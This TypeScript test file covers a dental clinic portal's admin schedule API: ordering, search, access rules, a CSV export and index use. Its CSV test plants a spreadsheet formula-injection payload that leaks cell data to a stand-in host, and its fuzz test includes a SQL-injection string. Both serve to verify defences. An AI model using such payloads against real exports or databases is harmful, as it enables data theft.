import { randomUUID } from 'node:crypto';
import {
  addDays,
  type IsoDate,
  type Schedule,
  type ScheduleSearch,
  scheduleErrors,
  scheduleSchema,
  scheduleSearchSchema,
} from '@doctors-portal/contract';
import fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer } from '../../test/accounts.js';
import { clinicDay } from '../../test/dates.js';
import { buildTestApp, engine, type TestApp } from '../../test/helper.js';
import {
  type Patient,
  signedUpAdmin,
  signedUpPatient,
  unpaidBooking,
} from '../../test/payment-fixtures.js';
import { insertRows, queryPlan } from '../../test/query-plans.js';
import { newBookingRow, scheduleQuery } from '../bookings/repository.js';
import type { Booking } from '../db/schema.js';

/**
 * The clinic's schedule (`GET /api/schedule`, `GET /api/schedule.csv`): a range of days' bookings
 * in slot order with what the front desk needs, filters, limits, the CSV export, and the index
 * its query reads.
 */
describe(`the clinic's schedule (${engine})`, () => {
  let t: TestApp;
  let admin: Patient;
  let jane: Patient;
  let omar: Patient;

  beforeAll(async () => {
    t = await buildTestApp();
    admin = await signedUpAdmin(t);
    jane = await signedUpPatient(t.app, 'Jane Doe');
    omar = await signedUpPatient(t.app, 'Omar Haddad');
  });
  afterAll(async () => {
    await t?.close();
  });

  const get = (url: string, who: Patient = admin) =>
    t.app.inject({ method: 'GET', url, headers: bearer(who.token) });
  const schedule = async (query: string): Promise<Schedule> => {
    const response = await get(`/api/schedule?${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return scheduleSchema.parse(response.json());
  };
  const book = (patient: Patient, fields: Partial<Booking>) => unpaidBooking(t, patient, fields);

  it("lists a day's bookings by the slot's start time (not as text), with what the front desk needs", async () => {
    const day = clinicDay(10);
    await book(jane, {
      date: day,
      treatment_id: 'teeth-whitening',
      treatment_name: 'Teeth Whitening',
      slot: '2:00 PM - 3:00 PM',
      phone: '+1 555 777 0001',
      age: 41,
    });
    await book(jane, {
      date: day,
      treatment_id: 'cavity-filling',
      treatment_name: 'Cavity Filling',
      slot: '1:00 PM - 2:00 PM',
      paid_at: new Date().toISOString(),
      transaction_id: 'pi_demo_paid',
    });
    await book(omar, { date: day, slot: '12:00 PM - 12:30 PM', age: 29 });
    await book(omar, {
      date: day,
      treatment_id: 'fluoride-treatment',
      treatment_name: 'Fluoride Treatment',
      slot: '10:00 AM - 10:30 AM',
    });
    // A label of the released portal, and one before ten: both sort wrongly as text.
    await book(omar, {
      date: day,
      treatment_id: 'teeth-whitening',
      treatment_name: 'Teeth Whitening',
      slot: '04:00 PM - 05:00 PM',
    });
    await book(jane, {
      date: day,
      treatment_id: 'pediatric-dental',
      treatment_name: 'Pediatric Dental',
      slot: '9:30 AM - 10:00 AM',
    });
    await book(omar, { date: addDays(day, 1), slot: '10:30 AM - 11:00 AM' });

    const answer = await schedule(`from=${day}&to=${day}`);
    expect(answer).toMatchObject({ from: day, to: day, today: clinicDay(0) });
    expect(answer.bookings.map((booking) => booking.slot)).toEqual([
      '9:30 AM - 10:00 AM',
      '10:00 AM - 10:30 AM',
      '12:00 PM - 12:30 PM',
      '1:00 PM - 2:00 PM',
      '2:00 PM - 3:00 PM',
      '04:00 PM - 05:00 PM',
    ]);
    expect(answer.bookings[4]).toMatchObject({
      date: day,
      treatment: 'Teeth Whitening',
      patientName: 'Jane Doe',
      patientMail: jane.email,
      phone: '+1 555 777 0001',
      age: 41,
      paid: false,
      status: 'booked',
      noShows: 0,
      refund: null,
    });
    expect(answer.bookings[3]).toMatchObject({ paid: true, transactionId: 'pi_demo_paid' });
    expect(answer.bookings[2]).toMatchObject({ patientName: 'Omar Haddad', age: 29 });

    // Two days: day by day, each in slot order.
    const two = await schedule(`from=${day}&to=${addDays(day, 1)}`);
    expect(two.bookings.map((booking) => [booking.date, booking.slot.split(' - ')[0]])).toEqual([
      [day, '9:30 AM'],
      [day, '10:00 AM'],
      [day, '12:00 PM'],
      [day, '1:00 PM'],
      [day, '2:00 PM'],
      [day, '04:00 PM'],
      [addDays(day, 1), '10:30 AM'],
    ]);
  });

  it('shows a cancelled booking as cancelled, never as holding its slot', async () => {
    const day = clinicDay(13);
    const first = await book(jane, { date: day, slot: '10:00 AM - 10:30 AM' });
    await t.db
      .updateTable('booking')
      .set({
        status: 'cancelled',
        cancelled_at: new Date().toISOString(),
        cancelled_by: admin.id,
        cancel_reason: 'The hygienist is ill',
      })
      .where('id', '=', first.id)
      .execute();
    await t.db.deleteFrom('booking_unit').where('booking_id', '=', first.id).execute();
    // The freed slot is booked by someone else.
    await book(omar, { date: day, slot: '10:00 AM - 10:30 AM' });

    const answer = await schedule(`from=${day}&to=${day}`);
    expect(answer.bookings.map((booking) => [booking.patientName, booking.status])).toEqual(
      expect.arrayContaining([
        ['Jane Doe', 'cancelled'],
        ['Omar Haddad', 'booked'],
      ]),
    );
    expect(answer.bookings.find((booking) => booking.status === 'cancelled')).toMatchObject({
      cancelledBy: 'clinic',
      cancelReason: 'The hygienist is ill',
      cancelledAt: expect.any(String),
    });
  });

  it("counts each patient's no-shows, on any date", async () => {
    const patient = await signedUpPatient(t.app, 'Nora Noshow');
    for (const offset of [-30, -20]) {
      await book(patient, { date: clinicDay(offset), status: 'no_show' });
    }
    await book(patient, { date: clinicDay(-10), status: 'completed' });
    const upcoming = await book(patient, { date: clinicDay(12) });
    const answer = await schedule(`from=${clinicDay(12)}&to=${clinicDay(12)}`);
    expect(answer.bookings.find((booking) => booking._id === upcoming.id)?.noShows).toBe(2);
  });

  it('keeps one treatment, or the patients whose name or email contains the search, across the range', async () => {
    const from = clinicDay(40);
    const to = clinicDay(60);
    const zed = await signedUpPatient(t.app, 'Zed 100%_Match');
    await book(zed, { date: clinicDay(41) });
    await book(zed, {
      date: clinicDay(59),
      treatment_id: 'teeth-whitening',
      treatment_name: 'Teeth Whitening',
      slot: '3:00 PM - 4:00 PM',
    });
    await book(jane, { date: clinicDay(50) });

    const byName = await schedule(`from=${from}&to=${to}&q=${encodeURIComponent('zed 100%_m')}`);
    expect(byName.bookings.map((booking) => booking.date)).toEqual([clinicDay(41), clinicDay(59)]);
    // '%' and '_' match themselves, not anything.
    expect((await schedule(`from=${from}&to=${to}&q=${encodeURIComponent('%')}`)).bookings).toEqual(
      byName.bookings,
    );
    const byEmail = await schedule(
      `from=${from}&to=${to}&q=${encodeURIComponent(jane.email.toUpperCase())}`,
    );
    expect(byEmail.bookings.map((booking) => booking.patientName)).toEqual(['Jane Doe']);
    const whitening = await schedule(`from=${from}&to=${to}&treatmentId=teeth-whitening`);
    expect(whitening.bookings.map((booking) => booking.patientName)).toEqual(['Zed 100%_Match']);
    const both = await schedule(`from=${from}&to=${to}&treatmentId=teeth-cleaning&q=zed`);
    expect(both.bookings.map((booking) => booking.date)).toEqual([clinicDay(41)]);
  });

  it('finds patients by a name in any case, letters beyond ASCII too', async () => {
    const day = clinicDay(62);
    const elodie = await signedUpPatient(t.app, 'Élodie Ångström');
    await book(elodie, { date: day });
    for (const search of ['Élodie', 'élodie', 'ÉLODIE', 'ångström', 'ÅNGSTRÖM']) {
      const found = await schedule(`from=${day}&to=${day}&q=${encodeURIComponent(search)}`);
      expect(
        found.bookings.map((booking) => booking.patientName),
        search,
      ).toEqual(['Élodie Ångström']);
    }
  });

  it('answers 400 for more than 31 days, an end before the start, or a date that is not one', async () => {
    const from = clinicDay(0);
    expect((await get(`/api/schedule?from=${from}&to=${addDays(from, 30)}`)).statusCode).toBe(200);
    const tooLong = await get(`/api/schedule?from=${from}&to=${addDays(from, 31)}`);
    expect(tooLong.statusCode).toBe(400);
    expect(tooLong.json().message).toContain(scheduleErrors.tooLong);
    const backwards = await get(`/api/schedule?from=${from}&to=${addDays(from, -1)}`);
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toContain(scheduleErrors.toBeforeFrom);
    for (const query of [`from=${from}`, 'to=2031-01-01', `from=2031-02-30&to=${from}`, '']) {
      const response = await get(`/api/schedule?${query}`);
      expect(response.statusCode, query).toBe(400);
    }
    expect((await get(`/api/schedule.csv?from=${from}&to=${addDays(from, 31)}`)).statusCode).toBe(
      400,
    );
  });

  it('answers administrators only, and is never kept by a cache', async () => {
    const url = `/api/schedule?from=${clinicDay(10)}&to=${clinicDay(10)}`;
    expect((await t.app.inject(url)).statusCode).toBe(401);
    expect((await get(url, jane)).statusCode).toBe(403);
    expect(
      (await get(`/api/schedule.csv?from=${clinicDay(10)}&to=${clinicDay(10)}`, jane)).statusCode,
    ).toBe(403);
    expect((await get(url)).headers['cache-control']).toBe('private, no-store');
  });

  it('answers any search or treatment text with 200 or 400, never a server error', async () => {
    const range = `from=${clinicDay(10)}&to=${clinicDay(20)}`;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 250 }),
          fc.string({ unit: 'binary', maxLength: 50 }),
          fc.constantFrom('%', '_', '\\', "' or 1=1 --", '\uD800', 'a\u0000b', 'É'.repeat(201)),
        ),
        fc.constantFrom('q', 'treatmentId'),
        fc.constantFrom('/api/schedule', '/api/schedule.csv'),
        async (text, field, path) => {
          // As a browser sends it: a lone surrogate becomes U+FFFD.
          const query = new URLSearchParams({ [field]: text });
          const response = await get(`${path}?${range}&${query}`);
          expect([200, 400]).toContain(response.statusCode);
        },
      ),
      { numRuns: 150 },
    );
  });

  describe('the search across all dates', () => {
    const search = async (q: string): Promise<ScheduleSearch> => {
      const response = await get(`/api/schedule/search?${new URLSearchParams({ q })}`);
      expect(response.statusCode, response.body).toBe(200);
      return scheduleSearchSchema.parse(response.json());
    };
    const dayAndSlot = (answer: ScheduleSearch) =>
      answer.bookings.map((booking) => `${booking.date} ${booking.slot.split(' - ')[0]}`);

    it('finds a patient’s bookings of every month by name or email in any case, upcoming soonest first, then past latest first', async () => {
      const quentin = await signedUpPatient(t.app, 'Quentin Searchable');
      const whitening = { treatment_id: 'teeth-whitening', treatment_name: 'Teeth Whitening' };
      await book(quentin, { ...whitening, date: clinicDay(121), slot: '9:30 AM - 10:00 AM' });
      await book(quentin, { ...whitening, date: clinicDay(-95), slot: '3:00 PM - 4:00 PM' });
      await book(quentin, { ...whitening, date: clinicDay(0), slot: '2:00 PM - 3:00 PM' });
      await book(quentin, { date: clinicDay(0), slot: '9:00 AM - 9:30 AM' });
      await book(quentin, { ...whitening, date: clinicDay(-3), slot: '11:00 AM - 12:00 PM' });
      const cancelled = await book(quentin, {
        ...whitening,
        date: clinicDay(45),
        slot: '10:00 AM - 11:00 AM',
      });
      await t.db
        .updateTable('booking')
        .set({
          status: 'cancelled',
          cancelled_at: new Date().toISOString(),
          cancelled_by: admin.id,
        })
        .where('id', '=', cancelled.id)
        .execute();
      // Someone else's booking, matched by neither search.
      await book(omar, { ...whitening, date: clinicDay(46), slot: '10:00 AM - 11:00 AM' });

      const expected = [
        `${clinicDay(0)} 9:00 AM`,
        `${clinicDay(0)} 2:00 PM`,
        `${clinicDay(45)} 10:00 AM`,
        `${clinicDay(121)} 9:30 AM`,
        `${clinicDay(-3)} 11:00 AM`,
        `${clinicDay(-95)} 3:00 PM`,
      ];
      const byName = await search('  qUENTIN sEARCH ');
      expect(byName.q).toBe('qUENTIN sEARCH');
      expect(dayAndSlot(byName)).toEqual(expected);
      expect(byName.more).toBe(false);
      expect(byName.bookings[2]).toMatchObject({ status: 'cancelled', cancelledBy: 'clinic' });
      expect(byName.bookings[0]).toMatchObject({
        patientName: 'Quentin Searchable',
        patientMail: quentin.email,
        patientId: quentin.id,
        treatment: 'Teeth Cleaning',
        paid: false,
        noShows: 0,
        refund: null,
      });
      expect(dayAndSlot(await search(quentin.email.toUpperCase()))).toEqual(expected);
      expect((await search('nobody-by-this-name')).bookings).toEqual([]);
    });

    it('matches %, _ and \\ as the characters they are', async () => {
      const names = ['Wild 50% Card', 'Wild 500 Card', 'Under_score Pat', 'Underxscore Pat'];
      for (const [index, name] of ['Back\\slash Pat', 'Backxslash Pat', ...names].entries()) {
        await book(jane, { patient_name: name, date: clinicDay(150 + index) });
      }
      const namesFound = async (q: string) =>
        (await search(q)).bookings.map((booking) => booking.patientName);
      expect(await namesFound('50%')).toEqual(['Wild 50% Card']);
      expect(await namesFound('r_s')).toEqual(['Under_score Pat']);
      expect(await namesFound('k\\s')).toEqual(['Back\\slash Pat']);
      expect(await namesFound('%%')).toEqual([]);
      expect(await namesFound('__')).toEqual([]);
    });

    it('answers at most 100, the most relevant, and says when more match', async () => {
      const rows = [
        // 60 upcoming days and 45 past ones, each a day of its own.
        ...Array.from({ length: 60 }, (_, index) => clinicDay(600 + index)),
        ...Array.from({ length: 45 }, (_, index) => clinicDay(-600 - index)),
      ].map((date, index) =>
        newBookingRow({
          treatment_id: 'teeth-cleaning',
          treatment_name: 'Teeth Cleaning',
          price_cents: 8000,
          date,
          slot: '10:00 AM - 10:30 AM',
          patient_id: jane.id,
          patient_email: jane.email,
          // The first five past ones are another's: the rest are exactly 100.
          patient_name: index >= 60 && index < 65 ? 'Limit Otherone' : 'Limit Reachedone',
          phone: '+1 555 010 2030',
          age: 34,
        }),
      );
      await t.db.insertInto('booking').values(rows).execute();

      const all = await search('limit ');
      expect(all.bookings).toHaveLength(100);
      expect(all.more).toBe(true);
      expect(all.bookings.map((booking) => booking.date)).toEqual([
        ...Array.from({ length: 60 }, (_, index) => clinicDay(600 + index)),
        ...Array.from({ length: 40 }, (_, index) => clinicDay(-600 - index)),
      ]);

      const exactly = await search('limit reached');
      expect(exactly.bookings).toHaveLength(100);
      expect(exactly.more).toBe(false);
      expect(exactly.bookings.at(-1)?.date).toBe(clinicDay(-644));
    });

    it('answers 400 for a search under 2 or over 200 characters once trimmed', async () => {
      for (const query of ['', 'q=', 'q=a', 'q=%20a%20%20', `q=${'a'.repeat(201)}`]) {
        const response = await get(`/api/schedule/search?${query}`);
        expect(response.statusCode, query).toBe(400);
        expect(response.json().message).toMatch(/q|characters/);
      }
      expect((await get(`/api/schedule/search?q=%20ab%20`)).statusCode).toBe(200);
      expect((await get(`/api/schedule/search?q=${'a'.repeat(200)}`)).statusCode).toBe(200);
    });

    it('answers administrators only, and is never kept by a cache', async () => {
      const url = '/api/schedule/search?q=jane';
      expect((await t.app.inject(url)).statusCode).toBe(401);
      expect((await get(url, jane)).statusCode).toBe(403);
      const response = await get(url);
      expect(response.statusCode).toBe(200);
      expect(response.headers['cache-control']).toBe('private, no-store');
    });
  });

  describe('the CSV export', () => {
    it('is RFC 4180 CSV with a header row and CRLF, named for its range', async () => {
      const day = clinicDay(70);
      const quoted = await signedUpPatient(t.app, 'Smith, "Smiley" Ann');
      await book(quoted, { date: day, slot: '10:30 AM - 11:00 AM', phone: '555 010 9999' });
      await book(jane, {
        date: day,
        treatment_id: 'teeth-whitening',
        treatment_name: 'Teeth Whitening',
        slot: '2:00 PM - 3:00 PM',
        paid_at: new Date().toISOString(),
        transaction_id: 'pi_demo_csv',
      });
      const response = await get(`/api/schedule.csv?from=${day}&to=${addDays(day, 6)}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="schedule-${day}-to-${addDays(day, 6)}.csv"`,
      );
      expect(response.headers['cache-control']).toBe('private, no-store');
      const lines = response.body.split('\r\n');
      expect(lines.at(-1)).toBe('');
      expect(response.body.replaceAll('\r\n', '')).not.toMatch(/\n/);
      expect(lines[0]).toBe(
        'Date,Time,Treatment,Patient,Email,Phone,Age,Price,Paid,Transaction id,Status,No-shows,Cancel reason,Refund id',
      );
      expect(lines[1]).toBe(
        `${day},10:30 AM - 11:00 AM,Teeth Cleaning,"Smith, ""Smiley"" Ann",${quoted.email},555 010 9999,34,$80,no,,Booked,0,,`,
      );
      expect(lines[2]).toBe(
        `${day},2:00 PM - 3:00 PM,Teeth Whitening,Jane Doe,${jane.email},'+1 555 010 2030,34,$80,yes,pi_demo_csv,Booked,0,,`,
      );
      expect(lines).toHaveLength(4);
      const one = await get(`/api/schedule.csv?from=${day}&to=${day}`);
      expect(one.headers['content-disposition']).toBe(`attachment; filename="schedule-${day}.csv"`);
    });

    it('neutralises a field a spreadsheet would run as a formula', async () => {
      const day = clinicDay(71);
      const attacker = await signedUpPatient(t.app, 'Mallory');
      const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
      await book(attacker, { date: day, patient_name: evil, phone: '@SUM(1+1)' });
      await book(jane, {
        date: day,
        slot: '10:30 AM - 11:00 AM',
        patient_name: '-2+3',
        phone: '\t=1+1',
      });
      const response = await get(`/api/schedule.csv?from=${day}&to=${day}`);
      const body = response.body;
      // The formula is kept as text: a leading quote, its double quotes doubled, the whole quoted.
      expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
      expect(body).toContain(",'@SUM(1+1),");
      expect(body).toContain(",'-2+3,");
      expect(body).toContain(",'\t=1+1,");
      // No field of any record starts with a formula character.
      const fields = body
        .split('\r\n')
        .slice(1)
        .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? [])
        .map((field) => field.replace(/,$/, '').replace(/^"/, ''));
      expect(fields.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
    });
  });

  describe('its query', () => {
    const plan = (from: IsoDate, to: IsoDate, extra: { q?: string; treatmentId?: string } = {}) =>
      queryPlan(t.db, scheduleQuery(t.db, { from, to, ...extra }).compile());

    beforeAll(async () => {
      // Enough bookings over enough days that PostgreSQL's planner weighs an index against a
      // sequential scan as it would on a clinic's database.
      const rows = [];
      for (let index = 0; index < 6000; index += 1) {
        rows.push({
          id: randomUUID(),
          treatment_id: 'teeth-cleaning',
          treatment_name: 'Teeth Cleaning',
          price_cents: 8000,
          date: clinicDay(200 + Math.floor(index / 12)),
          slot: `slot ${index % 12}`,
          patient_id: null,
          patient_email: `bulk${index}@mail.com`,
          patient_name: `Bulk ${index}`,
          phone: '+1 555 010 2030',
          age: 30,
          created_at: new Date().toISOString(),
          paid_at: null,
          transaction_id: null,
          status: index % 6 === 0 ? ('cancelled' as const) : ('booked' as const),
        });
      }
      await insertRows(t.db, 'booking', rows);
      if (engine === 'postgres') await sql`analyze booking`.execute(t.db);
    });

    it('reads an index that leads with the date, for live and cancelled bookings alike, and no table whole', async () => {
      for (const extra of [{}, { q: 'bulk 1' }, { treatmentId: 'teeth-cleaning' }]) {
        const text = await plan(clinicDay(300), clinicDay(306), extra);
        // biome-ignore lint/suspicious/noConsole: the plan is what this test is about.
        console.log(`schedule query plan (${engine}, ${JSON.stringify(extra)}):\n${text}`);
        expect(text).toContain('booking_slot_unique');
        expect(text).toContain('booking_cancelled_date_idx');
        // Each row's patient's no-shows and refund, through their own indexes.
        expect(text).toContain('booking_no_show_idx');
        expect(text).toContain('refund_booking_idx');
        if (engine === 'sqlite') {
          expect(text).not.toMatch(/SCAN (booking|history|refund)(?! USING)/);
        } else {
          expect(text).not.toMatch(/Seq Scan on (booking|refund)/);
        }
      }
    });
  });
});
